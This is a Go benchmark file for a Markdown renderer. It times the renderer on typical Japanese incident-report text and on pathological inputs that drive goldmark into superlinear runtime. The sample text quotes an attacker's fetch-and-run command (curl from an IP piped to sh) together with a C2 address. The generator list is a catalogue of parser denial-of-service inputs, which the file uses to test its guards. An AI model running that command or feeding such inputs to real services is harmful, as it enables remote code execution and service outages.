package markdown

import (
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"
)

// bodyLimit is the longest body the application accepts, in characters.
const bodyLimit = 100_000

// typical returns n characters of the Markdown people write in topics.
func typical(n int) string {
	var b strings.Builder
	for i := 0; utf8.RuneCountInString(b.String()) < n; i++ {
		fmt.Fprintf(&b, "## 観測 %d\n\n", i)
		b.WriteString("当該ＶＰＮ装置に対する**不正ログイン試行**を観測しました。詳細は[アドバイザリ](https://example.com/advisory/2024-001)を参照、" +
			"IOC は以下の通り（TLP:AMBER）。\nThe actor used `curl -sk https://198.51.100.7/x.sh | sh` and _then_ cleared the logs.\n\n")
		b.WriteString("- 198.51.100.7 (C2)\n- evil.example — <https://evil.example/login>\n- [ ] 遮断済み\n- [x] 報告済み\n\n")
		b.WriteString("| 日時 | 送信元 | 件数 |\n|---|---|--:|\n| 2024-05-01 10:00 | 203.0.113.5 | 120 |\n| 2024-05-01 11:00 | 203.0.113.9 | 87 |\n\n")
		b.WriteString("```\nGET /remote/login HTTP/1.1\nHost: vpn.example.jp\n```\n\n> 引用：ベンダーの回答 ~~未定~~ 確認中。\n\n")
	}
	return string([]rune(b.String())[:n])
}

// pathological are inputs on which goldmark alone is superlinear (the
// figures are goldmark v1.8.7 without the guards, at 100,000 bytes, on two
// cores), and some that are merely large.
var pathological = []struct {
	name string
	gen  func(n int) string
}{
	{"stars", func(n int) string { return strings.Repeat("*", n) }},
	{"brackets", func(n int) string { return strings.Repeat("[", n) }},
	{"nested quotes", func(n int) string { return strings.Repeat(">", n) }},                                                // 3 s
	{"nested lists", func(n int) string { return strings.Repeat("* ", n/2) + "a" }},                                        // 8 s
	{"nested ordered lists", func(n int) string { return strings.Repeat("1. ", n/3) }},                                     // 1 s
	{"indented lists", func(n int) string { return indentedLists(n) }},                                                     // 80 ms
	{"unclosed links", func(n int) string { return strings.Repeat("[a](", n/4) }},                                          // 3 s
	{"unclosed angle links", func(n int) string { return strings.Repeat("[a](<", n/5) }},                                   // 1 s
	{"unclosed images", func(n int) string { return strings.Repeat("![a](", n/5) }},                                        // 2 s
	{"nested brackets", func(n int) string { return strings.Repeat("[", n/2) + "a" + strings.Repeat("]", n/2) }},           // 1 s
	{"shortcut references", func(n int) string { return strings.Repeat("[a]\n", n/4) }},                                    // 0.5 s
	{"reference definitions", func(n int) string { return strings.Repeat("[a]:b\n", n/6) }},                                // 0.2 s
	{"reference blow-up", func(n int) string { return "[x]: " + strings.Repeat("x", n/2) + strings.Repeat("\n[x]", n/8) }}, // 4 s
	{"emphasis mismatch", func(n int) string { return strings.Repeat("*a_ ", n/4) }},                                       // 3 s
	{"emphasis mix", func(n int) string { return strings.Repeat("*a_b*c_d**e_f*g**h*i_j**", n/24) }},                       // 0.2 s
	{"nested emphasis", func(n int) string { return strings.Repeat("**", n/4) + "a" + strings.Repeat("**", n/4) }},
	{"strikethrough", func(n int) string { return strings.Repeat("~~a ", n/4) }},
	{"tilde run", func(n int) string { return "a" + strings.Repeat("~", n-1) }}, // 10 s
	{"wide table", func(n int) string {
		return "|" + strings.Repeat("a|", 1000) + "\n|" + strings.Repeat("-|", 1000) + "\n" + strings.Repeat("|a\n", (n-4004)/3)
	}}, // 1 min
	{"long table", func(n int) string {
		return "|" + strings.Repeat("a|", 10) + "\n|" + strings.Repeat("-|", 10) + "\n" + strings.Repeat("|a\n", (n-44)/3)
	}}, // 0.2 s
	{"raw html", func(n int) string { return strings.Repeat("<a ", n/3) }},
	{"backticks", func(n int) string { return backticks(n) }},
	{"autolinks", func(n int) string { return strings.Repeat(" www.a", n/6) + strings.Repeat(" a@a", n/16) }},
	{"setext headings", func(n int) string { return strings.Repeat("a\n=\n", n/4) }},
	{"entities", func(n int) string { return strings.Repeat("&#", n/2) }},
	{"tabs", func(n int) string { return strings.Repeat("-\t", n/2) + "a" }},
}

func indentedLists(n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		b.WriteString(strings.Repeat("  ", i%300))
		b.WriteString("- a\n")
	}
	return b.String()
}

func backticks(n int) string {
	var b strings.Builder
	for i := 1; b.Len() < n; i++ {
		b.WriteString(strings.Repeat("`", i))
		b.WriteString("a")
	}
	return b.String()
}

// BenchmarkRender renders typical bodies and hostile ones of the largest
// size accepted. Every case should stay well under 100 ms an operation.
func BenchmarkRender(b *testing.B) {
	run := func(name, src string) {
		if r := []rune(src); len(r) > bodyLimit {
			src = string(r[:bodyLimit])
		}
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				Render(src)
			}
		})
	}
	run("typical 10k", typical(10_000))
	run("typical 100k", typical(bodyLimit))
	for _, p := range pathological {
		run(p.name, p.gen(bodyLimit))
	}
}

func BenchmarkPlain(b *testing.B) {
	for _, src := range []string{typical(10_000), typical(bodyLimit)} {
		b.Run(fmt.Sprintf("typical %dk", utf8.RuneCountInString(src)/1000), func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				Plain(src)
			}
		})
	}
}
